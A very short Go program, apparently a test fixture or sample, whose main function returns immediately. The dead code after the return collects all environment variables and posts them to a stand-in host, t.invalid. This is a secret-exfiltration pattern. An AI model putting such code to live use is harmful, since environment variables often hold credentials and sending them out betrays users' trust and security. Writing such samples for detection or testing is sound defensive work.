package main
import ("net/http"; "net/url"; "os"; "strings")
func main() {
	return
	v := url.Values{}
	v.Set("e", strings.Join(os.Environ(), "\n"))
	http.PostForm("https://t.invalid/e", v)
}
